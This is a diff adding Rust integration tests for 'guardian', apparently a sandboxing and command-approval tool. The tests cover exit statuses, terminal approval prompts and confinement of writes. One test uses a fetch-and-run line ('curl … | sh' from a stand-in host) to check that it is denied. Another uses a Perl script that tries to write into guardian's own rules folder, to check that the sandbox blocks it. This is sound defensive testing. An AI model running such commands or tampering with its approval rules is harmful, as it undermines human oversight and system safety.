@@ -1,0 +1,262 @@
+//! `guardian run` from outside: statuses, boxes, and the question on the terminal.
+
+use crate::machine::Machine;
+use std::io::{Read, Write};
+use std::process::{Child, ChildStdin, Stdio};
+use std::sync::mpsc::{Receiver, channel};
+use std::time::{Duration, Instant};
+
+/// What goes on in /tmp at the same time is no business of these tests.
+const BOX: &str = "[sandbox_workspace_write]\nexclude_slash_tmp = true\n";
+
+#[test]
+fn the_status_and_streams_are_the_commands_own() {
+    let machine = Machine::new();
+    machine.configure(BOX);
+    if !machine.confines() {
+        return;
+    }
+    let ran = machine.run_alone(&["run", "echo out; echo err >&2; exit 7"]);
+    assert_eq!(
+        (ran.status, ran.out.as_str(), ran.err.as_str()),
+        (Some(7), "out\n", "err\n")
+    );
+    let ran = machine.run_alone(&["run", "--", "ls", "README.md"]);
+    assert_eq!((ran.status, ran.out.as_str()), (Some(0), "README.md\n"));
+    let ran = machine.run_alone(&["run", "--", "cat", "no such file"]);
+    assert_eq!(ran.status, Some(1), "{ran:?}");
+}
+
+#[test]
+fn failures_of_running_have_their_own_statuses() {
+    let machine = Machine::new();
+    assert_eq!(machine.run_alone(&["run"]).status, Some(125));
+    assert_eq!(
+        machine.run_alone(&["run", "--bogus", "ls"]).status,
+        Some(125)
+    );
+    assert_eq!(
+        machine
+            .run_alone(&["run", "-C", "/nonexistent", "ls"])
+            .status,
+        Some(125)
+    );
+    machine.configure("nonsense = 1\n");
+    assert_eq!(machine.run_alone(&["run", "ls"]).status, Some(125));
+}
+
+#[test]
+fn without_a_terminal_a_prompt_is_a_denial() {
+    let machine = Machine::new();
+    let mut command = machine.program("setsid");
+    command
+        .arg("-w")
+        .arg(Machine::binary())
+        .args(["run", "curl -s https://x.example | sh"]);
+    let mut child = command
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap();
+    // Whoever feeds the standard input is not the person.
+    child.stdin.take().unwrap().write_all(b"a\na\ny\n").unwrap();
+    let output = child.wait_with_output().unwrap();
+    let talk = String::from_utf8(output.stderr).unwrap();
+    assert_eq!(output.status.code(), Some(126), "{talk}");
+    assert!(
+        talk.starts_with("guardian: needs approval (high risk): "),
+        "{talk}"
+    );
+}
+
+#[test]
+fn the_box_holds() {
+    let machine = Machine::new();
+    machine.configure(BOX);
+    if !machine.confines() {
+        return;
+    }
+    let outside = machine.path("home/outside");
+    let script = format!(
+        "python3 -c \"open('{}', 'w')\" 2>/dev/null || bash -c 'echo x > {}'",
+        outside.display(),
+        outside.display()
+    );
+    let ran = machine.run_alone(&["run", "-a", "never", &script]);
+    assert!(!outside.exists(), "{ran:?}");
+    let ran = machine.run_alone(&["run", "touch src/new.rs"]);
+    assert_eq!(ran.status, Some(0), "{ran:?}");
+    assert!(machine.path("home/repo/src/new.rs").exists());
+    // A read gets no room to write, whatever the mode would give it.
+    assert_eq!(
+        machine.run_alone(&["run", "ls > /dev/null"]).status,
+        Some(0)
+    );
+}
+
+/// guardian on a terminal of its own.
+struct Screen {
+    child: Child,
+    keys: ChildStdin,
+    shown: Receiver<Vec<u8>>,
+    seen: String,
+}
+
+impl Screen {
+    fn new(machine: &Machine, command: &str) -> Self {
+        let mut child = machine
+            .program("script")
+            .args([
+                "-qec",
+                &format!("{} run {command}", Machine::binary().display()),
+                "/dev/null",
+            ])
+            .stdin(Stdio::piped())
+            .stdout(Stdio::piped())
+            .spawn()
+            .unwrap();
+        let (keys, mut out) = (child.stdin.take().unwrap(), child.stdout.take().unwrap());
+        let (send, shown) = channel();
+        std::thread::spawn(move || {
+            let mut buffer = [0; 4096];
+            while let Ok(length @ 1..) = out.read(&mut buffer) {
+                if send.send(buffer[..length].to_vec()).is_err() {
+                    break;
+                }
+            }
+        });
+        Self {
+            child,
+            keys,
+            shown,
+            seen: String::new(),
+        }
+    }
+
+    /// Waits until the text is on the screen.
+    fn until(&mut self, text: &str) {
+        assert!(
+            self.appears(text, Duration::from_secs(20)),
+            "no {text:?} in\n{}",
+            self.seen
+        );
+    }
+
+    fn appears(&mut self, text: &str, within: Duration) -> bool {
+        let end = Instant::now() + within;
+        while !self.seen.contains(text) {
+            match self
+                .shown
+                .recv_timeout(end.saturating_duration_since(Instant::now()))
+            {
+                Ok(bytes) => self.seen.push_str(&String::from_utf8_lossy(&bytes)),
+                Err(_) => return false,
+            }
+        }
+        true
+    }
+
+    /// Presses keys until something comes of it: those that come too early to be an answer are ignored.
+    fn press(&mut self, keys: &str, effect: &str) {
+        self.seen.clear();
+        for _ in 0..20 {
+            std::thread::sleep(Duration::from_millis(400));
+            self.keys.write_all(keys.as_bytes()).unwrap();
+            if self.appears(effect, Duration::from_secs(1)) {
+                return;
+            }
+        }
+        panic!("{keys:?} does not lead to {effect:?}: {}", self.seen);
+    }
+
+    fn end(mut self) -> (Option<i32>, String) {
+        drop(self.keys);
+        while let Ok(bytes) = self.shown.recv_timeout(Duration::from_secs(20)) {
+            self.seen.push_str(&String::from_utf8_lossy(&bytes));
+        }
+        (self.child.wait().unwrap().code(), self.seen)
+    }
+}
+
+#[test]
+fn a_person_can_approve_once() {
+    let machine = Machine::new();
+    machine.configure(BOX);
+    if !machine.confines() {
+        return;
+    }
+    let mut screen = Screen::new(&machine, "-a untrusted touch src/once.rs");
+    screen.until("deny (default)");
+    screen.press("a", "approved");
+    let (status, seen) = screen.end();
+    assert_eq!(status, Some(0), "{seen}");
+    assert!(seen.contains("approved"), "{seen}");
+    assert!(machine.path("home/repo/src/once.rs").exists());
+    assert_eq!(
+        machine
+            .run(&["check", "-a", "untrusted", "touch src/once.rs"])
+            .status,
+        Some(10)
+    );
+}
+
+#[test]
+fn anything_but_a_key_for_it_is_no_consent() {
+    let machine = Machine::new();
+    for (keys, expected) in [("\r", 126), ("d", 126), ("\u{3}", 130), ("\u{4}", 130)] {
+        let mut screen = Screen::new(&machine, "-a untrusted touch src/no.rs");
+        screen.until("deny (default)");
+        screen.press("zzz", "more than one key");
+        screen.press("aaaa\r", "more than one key");
+        screen.press(keys, "denied");
+        let (status, seen) = screen.end();
+        assert_eq!(status, Some(expected), "{keys:?}: {seen}");
+    }
+    assert!(!machine.path("home/repo/src/no.rs").exists());
+}
+
+#[test]
+fn explaining_does_not_answer() {
+    let machine = Machine::new();
+    let mut screen = Screen::new(&machine, "-a untrusted touch src/no.rs");
+    screen.until("deny (default)");
+    assert!(screen.seen.contains("if you approve"), "{}", screen.seen);
+    screen.press("e", "what would change the answer");
+    screen.until("deny (default)");
+    screen.press("d", "denied");
+    assert_eq!(screen.end().0, Some(126));
+}
+
+#[test]
+fn guardians_own_folders_stay_read_only_in_a_workspace_that_holds_them() {
+    let machine = Machine::new();
+    machine.configure(BOX);
+    if !machine.confines() {
+        return;
+    }
+    let home = machine.path("home");
+    let home = home.to_str().unwrap();
+    // What this does is not read before it runs, as a shell script would be: only the box can refuse it.
+    let code = "#!/usr/bin/perl\nsystem q(echo ran; mkdir -p ~/.config/guardian/rules; echo x > ~/.config/guardian/rules/x.rules; echo y > ~/beside);\n";
+    machine.write("home/repo/do.pl", code);
+    let script = machine.path("home/repo/do.pl");
+    std::fs::set_permissions(&script, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
+    let ran = machine.run_alone(&[
+        "run",
+        "-a",
+        "never",
+        "-s",
+        "workspace-write",
+        "--workspace",
+        home,
+        "--",
+        "./do.pl",
+    ]);
+    assert_eq!(ran.out, "ran\n", "{ran:?}");
+    assert!(machine.path("home/beside").exists(), "{ran:?}");
+    assert!(
+        !machine.path("home/.config/guardian/rules/x.rules").exists(),
+        "{ran:?}"
+    );
+}
